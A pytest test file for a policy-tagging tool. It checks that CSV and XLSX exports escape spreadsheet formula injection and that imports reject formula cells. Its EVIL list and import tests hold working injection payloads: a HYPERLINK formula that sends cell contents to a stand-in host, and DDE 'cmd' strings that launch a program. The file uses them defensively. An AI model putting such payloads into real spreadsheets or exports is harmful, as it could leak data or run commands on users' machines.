"""Security: no CSV/XLSX formula injection in any writer; imports refuse formula cells;
a corrections import keeps going past bad rows."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _xlsx_cells(path: Path) -> list:
    from openpyxl import load_workbook

    wb = load_workbook(path)  # data_only=False: formulas would come back as data_type 'f'
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_no_formula_xlsx(path: Path, originals: list[str]) -> None:
    cells = _xlsx_cells(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells if isinstance(c.value, str)]
    for v in originals:
        assert "'" + v in values, (v, values[:20])


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _assert_no_formula_csv(path: Path, originals: list[str]) -> None:
    cells = _csv_cells(path)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    for v in originals:
        assert "'" + v in cells, (v, cells[:20])


def _rows() -> list[dict]:
    return [{"doc_id": EVIL[i % len(EVIL)], "clause_id": f"c#{i}", "context": EVIL[(i + 1) % len(EVIL)],
             "text": v, "span": [0, 5], "agencies": [], "themes": ["youth"], "measures": [], "p_youth": 0.9,
             "model_version": "v1"} for i, v in enumerate(EVIL)]


def test_tagging_write_rows_csv_and_xlsx(tmp_path):
    """Was: openpyxl stored '=…' as a live formula (data_type 'f'), CSV carried it raw."""
    from policytag.serving.tagging import write_rows

    _assert_no_formula_csv(write_rows(_rows(), tmp_path / "t.csv"), EVIL)
    _assert_no_formula_xlsx(write_rows(_rows(), tmp_path / "t.xlsx"), EVIL)
    # numbers stay numbers
    cells = _xlsx_cells(tmp_path / "t.xlsx")
    assert any(c.value == 0.9 and c.data_type == "n" for c in cells)


def test_tagging_write_csv_and_xlsx_of_a_frame_as_the_app_downloads_do(tmp_path):
    import pandas as pd

    from policytag.serving.tagging import write_csv, write_xlsx

    df = pd.DataFrame({EVIL[0]: [EVIL[1], 3], "n": [EVIL[2], 4]})
    _assert_no_formula_csv(write_csv(df, tmp_path / "h.csv"), EVIL[:3])
    _assert_no_formula_xlsx(write_xlsx(df, tmp_path / "h.xlsx", sheet_name="heatmap"), EVIL[:3])


def test_tagging_write_summary(tmp_path):
    from policytag.serving.tagging import write_summary

    _assert_no_formula_csv(write_summary(_rows(), tmp_path / "x.summary.csv"), EVIL)


def test_predict_cli_xlsx_and_csv(cli, tiny_model_dir, tmp_path):
    src = tmp_path / "evil.jsonl"
    src.write_text("".join(json.dumps({"clause_id": f"e#{i}", "doc_id": "=1+1", "text": v + "开展科普活动。",
                                       "context": "@SUM(A1:A2)"}, ensure_ascii=False) + "\n"
                           for i, v in enumerate(EVIL)), encoding="utf-8")
    for ext in (".xlsx", ".csv"):
        out = tmp_path / f"tags{ext}"
        res = cli("predict", src, "--model", tiny_model_dir, "-o", out, "-q")
        assert res.code == 0, res.err
        originals = [v + "开展科普活动。" for v in EVIL] + ["=1+1", "@SUM(A1:A2)"]
        (_assert_no_formula_xlsx if ext == ".xlsx" else _assert_no_formula_csv)(out, originals)
    _assert_no_formula_csv(tmp_path / "tags.summary.csv", ["=1+1"])


def _store_with_evil(tmp_path):
    from policytag.data.corrections import CorrectionStore

    store = CorrectionStore(tmp_path / "c.sqlite")
    for i, v in enumerate(EVIL):
        store.add({"text": v + f"加强科普{i}。", "context": EVIL[(i + 2) % len(EVIL)], "doc_id": EVIL[(i + 1) % len(EVIL)],
                   "clause_id": f"x#{i}"}, ["youth"], ["funding"], note=EVIL[(i + 3) % len(EVIL)],
                  annotator=EVIL[i])
    return store


def test_corrections_export_csv_xlsx_and_the_round_trip(tmp_path):
    from policytag.data.corrections import CorrectionStore, export_corrections, import_corrections

    store = _store_with_evil(tmp_path)
    texts = [v + f"加强科普{i}。" for i, v in enumerate(EVIL)]
    export_corrections(store, tmp_path / "e.csv")
    _assert_no_formula_csv(tmp_path / "e.csv", texts + EVIL)
    export_corrections(store, tmp_path / "e.xlsx")
    _assert_no_formula_xlsx(tmp_path / "e.xlsx", texts + EVIL)
    # the ' prefix is an export artefact: importing the file back gives the same clauses
    for ext in (".csv", ".xlsx"):
        fresh = CorrectionStore(tmp_path / f"fresh{ext}.sqlite")
        rep = import_corrections(fresh, tmp_path / f"e{ext}")
        assert not rep.rejected, rep.summary()
        got = {r["clause_key"]: r for r in fresh.records()}
        assert sorted(r["text"] for r in got.values()) == sorted(t.strip() for t in texts)  # import strips text
        for r in store.records():
            g = got[r["clause_key"]]
            assert (g["note"], g["doc_id"], g["context"], g["annotator"]) == \
                (r["note"], r["doc_id"], r["context"], r["annotator"])


def test_xlsx_import_rejects_a_formula_cell_and_imports_the_other_rows(tmp_path):
    """Was: a themes cell holding =… was accepted with empty labels (pandas reads the cached value)."""
    from openpyxl import Workbook

    from policytag.data.corrections import CorrectionStore, import_corrections

    wb = Workbook()
    ws = wb.active
    ws.append(["text", "themes", "measures", "note"])
    ws.append(["加强青少年科学教育。", "youth", "", ""])
    ws.append(["开展农民技能培训。", '=IF(1,"farmers","")', "", ""])
    ws.append(["建设乡村科普站。", "farmers", "infrastructure_build", '=HYPERLINK("http://x")'])
    ws.append(["加大科普经费投入。", "", "funding", ""])
    wb.save(tmp_path / "in.xlsx")
    assert [c.data_type for c in ws[3]][1] == "f"
    store = CorrectionStore(tmp_path / "c.sqlite")
    rep = import_corrections(store, tmp_path / "in.xlsx")
    assert [r for r, _ in rep.rejected] == [3, 4]
    assert "column themes holds a formula" in rep.rejected[0][1]
    assert "column note holds a formula" in rep.rejected[1][1]
    assert sorted(r["text"] for r in store.records()) == sorted(["加强青少年科学教育。", "加大科普经费投入。"])


def test_csv_import_rejects_a_formula_and_keeps_dash_as_no_labels(tmp_path):
    from policytag.data.corrections import CorrectionStore, import_corrections

    (tmp_path / "in.csv").write_text(
        "text,themes,measures\n加强青少年科学教育。,youth,-\n开展农民技能培训。,\"=IF(1,\"\"farmers\"\")\",\n"
        "-开展科普活动。,-,funding\n", encoding="utf-8")
    store = CorrectionStore(tmp_path / "c.sqlite")
    rep = import_corrections(store, tmp_path / "in.csv")
    assert [r for r, _ in rep.rejected] == [3] and "formula" in rep.rejected[0][1]
    assert {r["text"]: (r["themes"], r["measures"]) for r in store.records()} == {
        "加强青少年科学教育。": (["youth"], []), "-开展科普活动。": ([], ["funding"])}


def test_jsonl_import_reports_a_malformed_line_and_imports_the_rest(tmp_path, cli):
    """Was: one malformed line aborted the whole import."""
    from policytag.data.corrections import CorrectionStore, import_corrections

    lines = ['{"text": "加强青少年科学教育。", "themes": ["youth"], "measures": []}',
             '{"text": "开展农民技能培训。", "themes": ["farmers"], "measures": [}',
             '["not", "an", "object"]',
             '{"text": "加大科普经费投入。", "themes": [], "measures": ["funding"]}']
    (tmp_path / "in.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    store = CorrectionStore(tmp_path / "c.sqlite")
    rep = import_corrections(store, tmp_path / "in.jsonl")
    assert [r for r, _ in rep.rejected] == [2, 3]
    assert rep.rejected[0][1].startswith("not valid JSON")
    assert rep.rejected[1][1] == "expected a JSON object per line"
    assert rep.rows == 4 and len(rep.accepted) == 2 and len(store) == 2
    res = cli("corrections", "import", tmp_path / "in.jsonl")
    assert res.code == 1 and "row 2: not valid JSON" in res.out and "Traceback" not in res.err


def test_a_measure_id_in_the_themes_column_says_where_it_belongs(tmp_path):
    """Was: "unknown theme id 'funding'"."""
    from policytag.data.corrections import CorrectionStore, import_corrections
    from policytag.data.taxonomy import load_taxonomy
    from policytag.errors import UnknownLabelError

    (tmp_path / "in.csv").write_text("text,themes,measures\n加大科普经费投入。,funding,\n加强青少年科学教育。,,youth\n",
                                     encoding="utf-8")
    rep = import_corrections(CorrectionStore(tmp_path / "c.sqlite"), tmp_path / "in.csv")
    assert rep.rejected == [
        (2, "`funding` is a measure id, not a theme id; put it in the measures column"),
        (3, "`youth` is a theme id, not a measure id; put it in the themes column")]
    with pytest.raises(UnknownLabelError, match="`funding` is a measure id, not a theme id; put it in the measures"):
        load_taxonomy().validate(["funding"], "themes", "x.jsonl:3")
